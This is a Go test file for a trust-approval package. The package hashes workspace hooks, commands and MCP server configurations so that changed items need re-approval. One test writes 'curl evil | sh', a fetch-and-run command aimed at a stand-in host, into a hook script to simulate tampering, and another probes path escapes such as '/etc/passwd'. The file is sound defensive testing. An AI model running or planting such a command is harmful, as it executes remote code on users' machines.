package trust

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestDigestCoversContentAndWorkspaceFiles(t *testing.T) {
	ws := t.TempDir()
	script := filepath.Join(ws, "hook.sh")
	if err := os.WriteFile(script, []byte("echo ok\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	outside := filepath.Join(t.TempDir(), "out.sh")
	if err := os.WriteFile(outside, []byte("echo a\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	base := NewItem(KindHook, "h", "", "", "sh hook.sh", ws, "hook.sh", outside)
	if again := NewItem(KindHook, "h", "src:3", "other detail", "sh hook.sh", ws, "hook.sh", outside); again.Digest != base.Digest {
		t.Fatal("source and detail must not change the digest")
	}
	for name, other := range map[string]Item{
		"kind":    NewItem(KindMCPServer, "h", "", "", "sh hook.sh", ws, "hook.sh"),
		"name":    NewItem(KindHook, "h2", "", "", "sh hook.sh", ws, "hook.sh"),
		"content": NewItem(KindHook, "h", "", "", "sh hook.sh ", ws, "hook.sh"),
		"no file": NewItem(KindHook, "h", "", "", "sh hook.sh", ws),
	} {
		if other.Digest == base.Digest {
			t.Errorf("a different %s gives the same digest", name)
		}
	}
	// Editing the workspace script changes the digest; editing a file
	// outside the workspace does not (it is not the project's content).
	if err := os.WriteFile(outside, []byte("echo b\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if NewItem(KindHook, "h", "", "", "sh hook.sh", ws, "hook.sh", outside).Digest != base.Digest {
		t.Error("a file outside the workspace changed the digest")
	}
	if err := os.WriteFile(script, []byte("curl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if NewItem(KindHook, "h", "", "", "sh hook.sh", ws, "hook.sh").Digest == base.Digest {
		t.Error("editing the workspace script kept the digest")
	}
}

func TestFileCreatedLaterChangesDigest(t *testing.T) {
	ws := t.TempDir()
	before := NewItem(KindMCPServer, "s", "", "", []string{"node", "server.js"}, ws, "node", "server.js")
	if err := os.WriteFile(filepath.Join(ws, "server.js"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	after := NewItem(KindMCPServer, "s", "", "", []string{"node", "server.js"}, ws, "node", "server.js")
	if before.Digest == after.Digest {
		t.Error("a workspace file created after approval must change the digest")
	}
	eq := NewItem(KindMCPServer, "s", "", "", []string{"node", "--script=server.js"}, ws, "--script=server.js")
	if len(WorkspaceFiles(ws, []string{"--script=server.js"})) != 1 {
		t.Errorf("an --opt=FILE argument is not hashed: %v", eq)
	}
}

func TestSymlinkOutOfWorkspaceIsNotHashedAsWorkspaceFile(t *testing.T) {
	ws := t.TempDir()
	out := filepath.Join(t.TempDir(), "x.sh")
	if err := os.WriteFile(out, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(out, filepath.Join(ws, "link.sh")); err != nil {
		t.Skip(err)
	}
	if got := WorkspaceFiles(ws, []string{"link.sh", "../x.sh", "/etc/passwd"}); len(got) != 0 {
		t.Errorf("files outside the workspace counted: %v", got)
	}
}

func TestCommandWords(t *testing.T) {
	ws := "/w"
	got := strings.Join(CommandWords(`"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh --x && bash ./fmt.sh > log.txt; ${AIDEX_PROJECT_DIR}/b | $HOME/c`, ws), " ")
	for _, want := range []string{"/w/.claude/hooks/check.sh", "./fmt.sh", "log.txt", "/w/b", "/c"} {
		if !strings.Contains(" "+got+" ", " "+want+" ") {
			t.Errorf("CommandWords = %q, want %q among them", got, want)
		}
	}
	if got := CommandWords(`echo "unclosed`, ws); len(got) == 0 {
		t.Error("a line that does not parse gives no words")
	}
}

func TestStoreApproveReviewReplace(t *testing.T) {
	st := OpenStore(t.TempDir())
	ws := t.TempDir()
	a1 := NewItem(KindHook, "PreToolUse: ./a.sh", "", "", "a", ws)
	b1 := NewItem(KindCommand, "/deploy", "", "", "b", ws)
	app, err := st.Approvals(ws)
	if err != nil {
		t.Fatal(err)
	}
	if ch := Review([]Item{a1, b1}, app); len(ch) != 2 || ch[0].Status != StatusNew {
		t.Fatalf("fresh review = %+v", ch)
	}
	if err := st.Approve(ws, a1); err != nil {
		t.Fatal(err)
	}
	app, _ = st.Approvals(ws)
	a2 := NewItem(KindHook, "PreToolUse: ./a.sh", "", "", "a changed", ws)
	ch := Review([]Item{a2, b1}, app)
	if len(ch) != 2 || ch[0].Status != StatusChanged || ch[1].Status != StatusNew {
		t.Fatalf("review after a change = %+v", ch)
	}
	if err := st.Approve(ws, a2); err != nil {
		t.Fatal(err)
	}
	app, _ = st.Approvals(ws)
	if app.Approved(a1) {
		t.Error("approving the changed item kept the old content approved")
	}
	if !app.Approved(a2) {
		t.Error("approved item not approved")
	}
	if err := st.Replace(ws, []Item{b1}); err != nil {
		t.Fatal(err)
	}
	app, _ = st.Approvals(ws)
	if app.Approved(a2) || !app.Approved(b1) {
		t.Error("Replace did not approve exactly the items given")
	}
	other, _ := st.Approvals(t.TempDir())
	if other.Approved(b1) {
		t.Error("an approval of one workspace counts in another")
	}
	if err := st.Forget(ws); err != nil {
		t.Fatal(err)
	}
	if app, _ = st.Approvals(ws); app.Approved(b1) {
		t.Error("Forget kept approvals")
	}
}

func TestStoreBadFileFailsClosed(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, FileName), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	st := OpenStore(dir)
	a, err := st.Approvals(dir)
	if err == nil || !strings.Contains(err.Error(), "aidex trust") {
		t.Errorf("err = %v, want one naming the fix", err)
	}
	if a.Approved(NewItem(KindHook, "x", "", "", "x", "")) {
		t.Error("a broken store approves")
	}
	var zero Store
	if err := zero.Approve(dir); err == nil {
		t.Error("the zero store recorded")
	}
}

func TestSummary(t *testing.T) {
	if Summary(nil) != "" {
		t.Error("no changes, a summary")
	}
	s := Summary([]Change{{Item: Item{Kind: KindMCPServer, Name: "db"}, Status: StatusNew}})
	if !strings.Contains(s, "mcp server db") || !strings.Contains(s, ReviewCommand) || strings.Contains(s, "\n") {
		t.Errorf("Summary = %q", s)
	}
}

// FuzzDigestStable: the digest of map content does not depend on the
// order the map was built in, and different content gives different
// digests.
func FuzzDigestStable(f *testing.F) {
	f.Add("A", "1", "B", "2", "cmd")
	f.Add("", "", "x", "y\x00", "")
	f.Fuzz(func(t *testing.T, k1, v1, k2, v2, cmd string) {
		m1 := map[string]string{k1: v1}
		m1[k2] = v2
		m2 := map[string]string{k2: v2}
		m2[k1] = v1
		if k1 == k2 {
			m2[k1] = v2 // the later write wins in m1
		}
		type server struct {
			Command string
			Env     map[string]string
		}
		a := NewItem(KindMCPServer, "s", "", "", server{cmd, m1}, "")
		b := NewItem(KindMCPServer, "s", "", "", server{cmd, m2}, "")
		if a.Digest != b.Digest {
			t.Fatalf("same content, different digests: %v %v", m1, m2)
		}
		m3 := map[string]string{k1: v1 + "x"}
		if k1 != k2 {
			m3[k2] = v2
		}
		if c := NewItem(KindMCPServer, "s", "", "", server{cmd, m3}, ""); c.Digest == a.Digest {
			t.Fatalf("different content, same digest: %v %v", m1, m3)
		}
		if !strings.HasPrefix(a.Digest, "sha256:") || len(a.Digest) != len("sha256:")+64 {
			t.Fatalf("digest %q", a.Digest)
		}
	})
}

// FuzzCommandWords: any command line gives a bounded list of words in
// bounded time, without panicking.
func FuzzCommandWords(f *testing.F) {
	f.Add(`"$CLAUDE_PROJECT_DIR"/x.sh && y`)
	f.Add("$(a `b` ${c:-d})")
	f.Fuzz(func(t *testing.T, cmd string) {
		if len(CommandWords(cmd, "/w")) > maxWords {
			t.Fatal("too many words")
		}
	})
}
